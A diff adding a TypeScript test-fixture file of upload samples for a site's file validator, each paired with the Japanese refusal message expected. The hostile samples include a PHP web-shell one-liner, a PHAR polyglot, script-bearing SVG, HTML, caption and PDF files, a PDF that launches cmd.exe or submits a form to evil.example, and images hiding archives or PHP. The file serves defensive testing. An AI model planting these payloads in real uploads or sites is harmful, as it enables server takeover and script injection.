@@ -1,0 +1,273 @@
+import { gzipSync } from 'node:zlib';
+import { photoWithPosition } from '../admin/photo.ts';
+import { zip } from '../zip.ts';
+import { mp4 } from './mp4.ts';
+import { pdf, pdfWithPacked } from './pdf.ts';
+import { jpeg, png, pngThatSays, webp, withChunk, withRiffChunk, withSegment } from './pictures.ts';
+
+/** A file that must not be put on the site: what it is, its name, its bytes, the word for it. */
+export type HostileUpload = readonly [what: string, name: string, bytes: Buffer, word: string];
+
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>';
+const HTML = '<!doctype html><html><script>alert(1)</script></html>';
+const PHP = '<?php system($_GET["c"]); ?>';
+const PHAR = `${PHP}<?php __HALT_COMPILER(); ?>`;
+const archive = zip({ 'A.class': 'x' });
+const join = (...parts: (Buffer | string)[]): Buffer =>
+  Buffer.concat(parts.map((part) => Buffer.from(part)));
+
+const otherKinds: HostileUpload[] = [
+  ['SVG', 'a.svg', join(SVG), 'SVGは使えません'],
+  ['SVG named JPEG', 'a.jpg', join(SVG), 'SVGは使えません'],
+  [
+    'SVG behind a declaration',
+    'a.png',
+    join('<?xml version="1.0"?>\n<!-- a -->', SVG),
+    'SVGは使えません',
+  ],
+  ['SVG with a BOM', 'a.png', join('\uFEFF', SVG), 'SVGは使えません'],
+  ['packed SVG', 'a.svgz', gzipSync(SVG), '「.svgz」のファイルは使えません'],
+  ['packed SVG named PNG', 'a.png', gzipSync(SVG), '読み取れません'],
+  ['SVG in UTF-16', 'a.png', Buffer.from(`\uFEFF${SVG}`, 'utf16le'), '読み取れません'],
+  ['page', 'a.html', join(HTML), 'HTML'],
+  ['page named JPEG', 'a.jpg', join(HTML), 'HTML'],
+  ['page named PDF', 'a.pdf', join('\n ', HTML), 'HTML'],
+  ['AVIF', 'a.avif', join('\0\0\0\x1cftypavif\0\0\0\0avifmif1'), 'AVIFは使えません'],
+  ['AVIF named JPEG', 'a.jpg', join('\0\0\0\x1cftypavis\0\0\0\0'), 'AVIFは使えません'],
+  ['HEIC', 'IMG_0001.HEIC', join('\0\0\0\x1cftypheic\0\0\0\0mif1'), '互換性優先'],
+  ['GIF', 'a.gif', join('GIF89a\x01\0\x01\0\0\0\0;'), 'GIFは使えません'],
+  [
+    'GIF with an archive behind it',
+    'a.jpg',
+    join('GIF89a\x01\0\x01\0\0\0\0;', archive),
+    'GIFは使えません',
+  ],
+  ['TIFF', 'a.tif', join('II*\0\x08\0\0\0'), 'TIFFは使えません'],
+  ['BMP', 'a.bmp', join('BM\x46\0\0\0\0\0\0\0\x36\0\0\0'), 'BMPは使えません'],
+  ['archive named JPEG', 'a.jpg', archive, '読み取れません'],
+  ['archive', 'a.zip', archive, '「.zip」のファイルは使えません'],
+  ['program named JPEG', 'a.jpg', join('MZ\x90\0\x03'), '読み取れません'],
+  ['program', 'a.exe', join('MZ\x90\0\x03'), '「.exe」のファイルは使えません'],
+  ['script of a server', 'a.php', join(PHP), '「.php」のファイルは使えません'],
+  ['script', 'a.js', join('alert(1)'), '「.js」のファイルは使えません'],
+  ['Word document with macros', 'a.docm', archive, '「.docm」のファイルは使えません'],
+  ['XML', 'a.xml', join('<?xml version="1.0"?><a/>'), '「.xml」のファイルは使えません'],
+  ['nothing', 'a.jpg', Buffer.alloc(0), 'ファイルが空です'],
+  ['random bytes', 'a.png', join('abcdefgh'), '読み取れません'],
+];
+
+const documents: HostileUpload[] = [
+  [
+    'PDF with a script',
+    'a.pdf',
+    pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
+    'JavaScript',
+  ],
+  [
+    'PDF with a script, its name escaped',
+    'a.pdf',
+    pdf('/OpenAction << /S /J#61vaScript /JS (x) >>'),
+    'JavaScript',
+  ],
+  ['PDF with scripts by name', 'a.pdf', pdf('/Names << /JavaScript 4 0 R >>'), 'JavaScript'],
+  [
+    'PDF with a packed script',
+    'a.pdf',
+    pdfWithPacked('4 0 << /S /JavaScript /JS (x) >>'),
+    'JavaScript',
+  ],
+  [
+    'PDF with a packed script, the packing escaped',
+    'a.pdf',
+    pdfWithPacked('<< /S /JavaScript >>', '/FlateDecode', '/Obj#53tm'),
+    '中を読み取れないPDF',
+  ],
+  [
+    'PDF packed twice',
+    'a.pdf',
+    pdfWithPacked('x', '[/ASCIIHexDecode /FlateDecode]'),
+    '中を読み取れないPDF',
+  ],
+  [
+    'PDF that starts a program',
+    'a.pdf',
+    pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
+    'ほかのプログラムを動かすPDF',
+  ],
+  [
+    'PDF with a file in it',
+    'a.pdf',
+    pdf('/Names << /EmbeddedFiles 4 0 R >>'),
+    'ファイルを埋めこんだPDF',
+  ],
+  [
+    'PDF with a film in it',
+    'a.pdf',
+    pdf('', ['<< /Type /Annot /Subtype /RichMedia >>']),
+    '動画や部品',
+  ],
+  [
+    'PDF that sends a form',
+    'a.pdf',
+    pdf('', ['<< /S /SubmitForm /F (http://evil.example) >>']),
+    '入力した内容を送るPDF',
+  ],
+  [
+    'PDF with a form of another kind',
+    'a.pdf',
+    pdf('/AcroForm << /XFA [(a) 4 0 R] >>'),
+    '入力した内容を送るPDF',
+  ],
+  [
+    'PDF behind a password',
+    'a.pdf',
+    join(pdf().toString('latin1').replace('/Root', '/Encrypt 4 0 R /Root')),
+    'パスワード',
+  ],
+  ['PDF with an archive behind it', 'a.pdf', join(pdf(), archive), 'ZIPやJAR'],
+  ['PDF with a page at its start', 'a.pdf', join('%PDF-1.7\n<html><body>', pdf()), 'HTML'],
+  ['PDF with a script of a page', 'a.pdf', join(pdf(), '<script>alert(1)</script>'), 'JavaScript'],
+  ['PDF that ends too early', 'a.pdf', pdf().subarray(0, 60), '終わりがありません'],
+  ['PDF with something behind it', 'a.pdf', join(pdf(), 'MZ\x90'), '終わりのあとに'],
+  ['PDF named JPEG', 'a.jpg', pdf(), '名前はJPEGですが、中身はPDFです'],
+];
+
+const texts: HostileUpload[] = [
+  [
+    'captions with a script',
+    'a.vtt',
+    join('WEBVTT\n\n00:00.000 --> 00:01.000\n<script>alert(1)</script>'),
+    'JavaScript',
+  ],
+  [
+    'captions of another character set',
+    'a.vtt',
+    join('WEBVTT\n\n', Buffer.from([0x8e, 0x9a, 0x96, 0x8b])),
+    'UTF-8',
+  ],
+  ['captions with a wrong first line', 'a.vtt', join('WEBVTTX\n'), '1行目は「WEBVTT」だけ'],
+  ['page named captions', 'a.vtt', join(HTML), 'HTML'],
+  ['captions of 2 MB', 'a.vtt', join('WEBVTT\n', 'x'.repeat(2_000_000)), '1MBまでに'],
+  ['film of a phone', 'a.mp4', mp4('qt  '), 'MOVは使えません'],
+  ['film that is cut off', 'a.mp4', mp4().subarray(0, 60), '動画として読み取れません'],
+  ['film with an archive behind it', 'a.mp4', join(mp4(), archive), 'ZIPやJAR'],
+  ['film with bytes behind it', 'a.mp4', join(mp4(), '\x01\x02\x03'), '終わりのあとに'],
+  ['film named PDF', 'a.pdf', mp4(), '名前はPDFですが、中身はMP4です'],
+];
+
+async function pictures(): Promise<HostileUpload[]> {
+  const [a, b, c] = await Promise.all([jpeg(), png(), webp()]);
+  return [
+    ['JPEG with an archive behind it', 'a.jpg', join(a, archive), 'ZIPやJAR'],
+    ['JPEG with an archive in it', 'a.jpg', withSegment(a, 0xfe, archive), 'ZIPやJAR'],
+    ['JPEG with an archive behind a second picture', 'a.jpg', join(a, a, archive), 'ZIPやJAR'],
+    ['JPEG with a page behind it', 'a.jpg', join(a, HTML), 'JavaScript'],
+    [
+      'JPEG with a page in its comment',
+      'a.jpg',
+      withSegment(a, 0xfe, '<html><body onload=x>'),
+      'HTML',
+    ],
+    ['JPEG with a program in its comment', 'a.jpg', withSegment(a, 0xfe, PHP), 'PHP'],
+    ['JPEG with a PHAR behind it', 'a.jpg', join(a, PHAR), 'PHAR'],
+    ['JPEG with an SVG behind it', 'a.jpg', join(a, SVG), 'SVGの絵'],
+    ['JPEG with bytes behind it', 'a.jpg', join(a, 'secret'), '終わりのあとに'],
+    ['JPEG with a PDF behind it', 'a.jpg', join(a, pdf()), '終わりのあとに'],
+    [
+      'JPEG that is cut off',
+      'a.jpg',
+      a.subarray(0, a.length - 20),
+      'JPEGの画像として読み取れません',
+    ],
+    [
+      'JPEG of a head alone',
+      'a.jpg',
+      Buffer.from([0xff, 0xd8, 0xff, 0xd9]),
+      'JPEGの画像として読み取れません',
+    ],
+    ['JPEG named as a page', 'a.html', a, '「.html」のファイルは使えません'],
+    ['JPEG named as a script of a server', 'a.jpg.php', a, '「.php」のファイルは使えません'],
+    ['JPEG named PDF', 'a.pdf', a, '名前はPDFですが、中身はJPEGです'],
+    ['JPEG of 31 MB', 'a.jpg', join(a, Buffer.alloc(31_000_000)), '30MBまでに'],
+    ['PNG with bytes behind it', 'a.png', join(b, '\0'), '終わりのあとに'],
+    ['PNG with an archive behind it', 'a.png', join(b, archive), 'ZIPやJAR'],
+    ['PNG with an archive in it', 'a.png', withChunk(b, 'zIPa', archive), 'ZIPやJAR'],
+    ['PNG with an unknown part', 'a.png', withChunk(b, 'daTa', 'secret'), '画像でないもの'],
+    [
+      'PNG with a page in its text',
+      'a.png',
+      withChunk(b, 'tEXt', `Comment\0${HTML}`),
+      'JavaScript',
+    ],
+    ['PNG with a program in its text', 'a.png', withChunk(b, 'tEXt', `Comment\0${PHP}`), 'PHP'],
+    ['PNG that moves', 'a.png', withChunk(b, 'acTL', Buffer.alloc(8)), '動く画像'],
+    [
+      'PNG of 100,000 by 100,000',
+      'a.png',
+      await pngThatSays(100_000, 100_000),
+      '大きすぎて開けません',
+    ],
+    ['PNG of nothing', 'a.png', await pngThatSays(0, 60), '大きさが0'],
+    ['PNG that is cut off', 'a.png', b.subarray(0, b.length - 8), 'PNGの画像として読み取れません'],
+    ['WebP with bytes behind it', 'a.webp', join(c, 'secret!!'), '終わりのあとに'],
+    ['WebP with an archive behind it', 'a.webp', join(c, archive), 'ZIPやJAR'],
+    ['WebP with an unknown part', 'a.webp', withRiffChunk(c, 'EVIL', 'secret'), '画像でないもの'],
+    ['WebP that moves', 'a.webp', withRiffChunk(c, 'ANIM', '\0\0\0\0\0\0'), '動く画像'],
+    [
+      'WebP that is cut off',
+      'a.webp',
+      c.subarray(0, c.length - 8),
+      'WebPの画像として読み取れません',
+    ],
+  ];
+}
+
+/** Files that must be refused when they are chosen, and when they lie in the repository. */
+export const hostileUploads = async (): Promise<HostileUpload[]> => [
+  ...otherKinds,
+  ...documents,
+  ...texts,
+  ...(await pictures()),
+];
+
+/** Files that are good to choose, because they are made anew, and that may not be stored as they are. */
+export async function rawPictures(): Promise<HostileUpload[]> {
+  const [a, b, c] = await Promise.all([jpeg(), png(), webp()]);
+  return [
+    ['photo with its position', 'a.jpg', await photoWithPosition(), 'Exif'],
+    ['JPEG with XMP', 'a.jpg', withSegment(a, 0xe1, 'http://ns.adobe.com/xap/1.0/\0<x/>'), 'Exif'],
+    ['JPEG with IPTC', 'a.jpg', withSegment(a, 0xed, 'Photoshop 3.0\x008BIM'), 'Exif'],
+    ['PNG with Exif', 'a.png', withChunk(b, 'eXIf', 'MM\0*'), 'Exif'],
+    ['PNG with XMP', 'a.png', withChunk(b, 'iTXt', 'XML:com.adobe.xmp\0\0\0\0\0<x/>'), 'Exif'],
+    ['WebP with Exif', 'a.webp', withRiffChunk(c, 'EXIF', 'MM\0*'), 'Exif'],
+    ['photo of 4,000 pixels', 'a.jpg', await jpeg(4000, 3000), '大きすぎます（4000×3000'],
+    ['JPEG named PNG', 'a.png', a, '名前はPNGですが、中身はJPEGです'],
+    ['JPEG with a phone’s second picture', 'a.jpg', join(a, a), '終わりのあとに'],
+    ['JPEG with a phone’s short film', 'a.jpg', join(a, mp4()), '終わりのあとに'],
+    [
+      'JPEG with a phone’s facts',
+      'a.jpg',
+      join(a, '\0\0\x01\nImage_UTC_DataSEFT'),
+      '終わりのあとに',
+    ],
+  ];
+}
+
+/** Files that may be chosen and stored as they are. */
+export async function goodUploads(): Promise<
+  (readonly [what: string, name: string, bytes: Buffer])[]
+> {
+  return [
+    ['JPEG', 'a.jpg', await jpeg()],
+    ['JPEG', 'room.JPEG', await jpeg(2400, 1800)],
+    ['PNG', 'a.png', await png()],
+    ['WebP', 'a.webp', await webp()],
+    ['PDF', 'a.pdf', pdf()],
+    ['PDF that opens at a page', 'a.pdf', pdf('/OpenAction [3 0 R /Fit]')],
+    ['PDF with packed objects', 'a.pdf', pdfWithPacked('4 0 << /Type /Font >>')],
+    ['PDF that was saved twice', 'a.pdf', join(pdf(), '5 0 obj\n<< >>\nendobj\n%%EOF\r\n')],
+    ['captions', 'a.vtt', join('WEBVTT\n\n00:00.000 --> 00:01.000\nこんにちは\n')],
+    ['captions with a BOM and a title', 'a.vtt', join('\uFEFFWEBVTT - 見本\r\n')],
+    ['film', 'a.mp4', mp4()],
+  ];
+}
